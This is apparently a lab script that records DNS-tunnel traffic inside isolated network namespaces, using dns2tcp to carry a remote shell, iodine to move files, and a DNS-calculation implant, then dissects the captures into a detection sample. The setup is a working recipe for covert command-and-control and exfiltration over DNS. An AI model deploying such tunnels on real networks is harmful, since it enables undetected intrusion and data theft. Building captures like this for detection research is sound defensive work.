#!/usr/bin/env bash
# Records two real DNS tunnels and one DNS-calculation implant inside network namespaces of its own, dissects the captures
# and composes the sample. Usage: record.sh [SECONDS]   (as root; default 240 seconds of traffic; see README.md)
set -euo pipefail

seconds=${1:-240}
lab=$(cd "$(dirname "$0")" && pwd)
root=$(cd "$lab/../.." && pwd)
programs=$lab/programs
work=$(mktemp -d)
node=$root/node_modules/.bin/node
limit=$((seconds + 60))

fail() { echo "record.sh: $*" >&2; exit 1; }

missing=()
for tool in ip iodine iodined dns2tcpc dns2tcpd tcpdump tshark python3; do
  PATH=$PATH:/usr/sbin:/sbin command -v "$tool" >/dev/null || missing+=("$tool")
done
[ ${#missing[@]} -eq 0 ] || fail "missing: ${missing[*]} (apt-get install iodine dns2tcp tcpdump tshark iproute2 python3)"
[ "$(id -u)" -eq 0 ] || fail "network namespaces need root"
[ -c /dev/net/tun ] || fail "/dev/net/tun is missing: iodine needs it"
[ -x "$node" ] || fail "node_modules is missing: run npm install first"
export PATH=$PATH:/usr/sbin:/sbin
! ip netns list | grep -q '^aqlab-' || fail "aqlab- namespaces exist: another recording runs, or one was killed"

started=()
tear_down() {
  local pid side story
  for pid in "${started[@]}"; do kill "$pid" 2>/dev/null || true; done
  for story in a b c; do
    for side in client server; do
      ip netns pids "aqlab-$story-$side" 2>/dev/null | xargs -r kill 2>/dev/null || true
      ip netns delete "aqlab-$story-$side" 2>/dev/null || true
    done
  done
  rm -rf "$work"
}
trap tear_down EXIT

# A pair of namespaces joined by a veth pair: make_pair STORY CLIENT_IP SERVER_IP...
make_pair() {
  local story=$1 client=$2 address
  shift 2
  ip netns add "aqlab-$story-client"
  ip netns add "aqlab-$story-server"
  ip link add "aqlab${story}0" netns "aqlab-$story-client" type veth peer name "aqlab${story}1" netns "aqlab-$story-server"
  ip -n "aqlab-$story-client" address add "$client/24" dev "aqlab${story}0"
  ip -n "aqlab-$story-server" address add 10.20.30.10/24 dev "aqlab${story}1"
  for address in "$@"; do ip -n "aqlab-$story-server" address add "$address/32" dev lo; done
  for address in client:0 server:1; do
    ip -n "aqlab-$story-${address%:*}" link set lo up
    ip -n "aqlab-$story-${address%:*}" link set "aqlab$story${address#*:}" up
  done
  ip -n "aqlab-$story-client" route add default via 10.20.30.10
  # the port range of Windows clients
  ip netns exec "aqlab-$story-client" sysctl -q -w net.ipv4.ip_local_port_range='49152 65535'
}

# run_in STORY-SIDE COMMAND...: in the background, bounded in time, its output kept in the work folder
run_in() {
  local where=$1
  shift
  timeout "$limit" ip netns exec "aqlab-$where" "$@" >>"$work/$where.log" 2>&1 &
  started+=($!)
}

wait_for() { # wait_for WHAT COMMAND...
  local what=$1 turn
  shift
  for turn in $(seq 100); do "$@" >/dev/null 2>&1 && return 0; sleep 0.2; done
  cat "$work"/*.log >&2
  fail "$what did not come up"
}

capture() { # capture STORY FILTER
  run_in "$1-client" tcpdump -q -U -s 0 -Z root -i "aqlab${1}0" -w "$work/$1.pcap" "$2"
  wait_for "tcpdump $1" test -e "$work/$1.pcap"
  sleep 0.5
}

echo "recording $seconds s of traffic ..." >&2

# a: dns2tcp, through the office's resolver (10.20.30.10)
make_pair a 10.20.30.21 203.0.113.80
printf 'listen = 203.0.113.80\nport = 53\nuser = nobody\nchroot = %s/empty\ndomain = r.telemetry-hub.example.org\nresources = shell:127.0.0.1:9000\n' "$work" >"$work/dns2tcpd.conf"
mkdir "$work/empty"
run_in a-server python3 "$programs/shell_over_tunnel.py" operator 9000 "$((seconds - 15))"
run_in a-server dns2tcpd -F -d 1 -f "$work/dns2tcpd.conf"
run_in a-server python3 "$programs/delay_relay.py" 10.20.30.10 53 203.0.113.80 53 46
capture a 'udp port 53'
run_in a-client dns2tcpc -z r.telemetry-hub.example.org -r shell -l 4430 -T TXT 10.20.30.10
wait_for dns2tcpc ip netns exec aqlab-a-client bash -c 'ss -ltn | grep -q :4430'
run_in a-client python3 "$programs/shell_over_tunnel.py" agent 4430

# b: iodine, straight to its own server (203.0.113.53)
make_pair b 10.20.30.23 203.0.113.53
run_in b-server iodined -f -c -P afterquery-lab -p 5353 10.99.0.1/27 t.upd-cache.example.net
wait_for iodined ip netns exec aqlab-b-server bash -c 'ip -4 addr | grep -q 10.99.0.1'
run_in b-server python3 "$programs/delay_relay.py" 203.0.113.53 53 127.0.0.1 5353 38
run_in b-server python3 "$programs/files_over_tunnel.py" store 10.99.0.1 8080
capture b 'udp port 53'
run_in b-client iodine -f -r -T TXT -P afterquery-lab 203.0.113.53 t.upd-cache.example.net
wait_for iodine ip netns exec aqlab-b-client bash -c 'ip -4 addr | grep -q 10.99.0.'
run_in b-client python3 "$programs/files_over_tunnel.py" client 10.99.0.1 8080 "$((seconds - 15))"

# c: DNS calculation
# shellcheck disable=SC2046
make_pair c 10.20.30.24 $(python3 "$programs/dns_calculation.py" addresses)
run_in c-server python3 "$programs/dns_calculation.py" server 10.20.30.10
capture c 'udp port 53 or (tcp[tcpflags] & tcp-syn != 0)'
run_in c-client python3 "$programs/dns_calculation.py" implant 10.20.30.10 "$((seconds - 15))"

sleep "$seconds"
for story in a b c; do
  for pid in $(ip netns pids "aqlab-$story-client"); do
    [ "$(cat "/proc/$pid/comm")" = tcpdump ] && kill -INT "$pid"
  done
done
sleep 1
grep -hE '^(operator|client|implant):' "$work"/*.log | sort -u | tee "$work/moved.tsv" >&2

# Dissection: tshark finds the datagrams and reads the headers; dissect.ts reads the names byte by byte.
fields=(-T fields -E separator=/t -E occurrence=f -e frame.time_epoch -e ip.src -e udp.srcport -e ip.dst -e udp.dstport
  -e dns.id -e dns.qry.type -e udp.payload)
for story in a:dns2tcp b:iodine c:dns_calculation; do
  tshark -r "$work/${story%:*}.pcap" -Y 'udp.port == 53' "${fields[@]}" >"$work/${story#*:}.dns.tsv" 2>/dev/null
done
tshark -r "$work/c.pcap" -Y 'tcp.flags.syn == 1' -T fields -E separator=/t -e frame.time_epoch -e ip.src -e tcp.srcport \
  -e ip.dst -e tcp.dstport -e tcp.flags.ack >"$work/dns_calculation.syn.tsv" 2>/dev/null
for package in iodine dns2tcp tcpdump tshark; do
  printf '%s\t%s\n' "$package" "$(dpkg-query -W -f '${Version}' "$package" 2>/dev/null || echo unknown)"
done >"$work/tools.tsv"

mkdir -p "$lab/recorded"
"$node" "$lab/dissect.ts" "$work" "$lab/recorded"
"$node" "$lab/compose.ts"
"$node" "$lab/check_sample.ts"
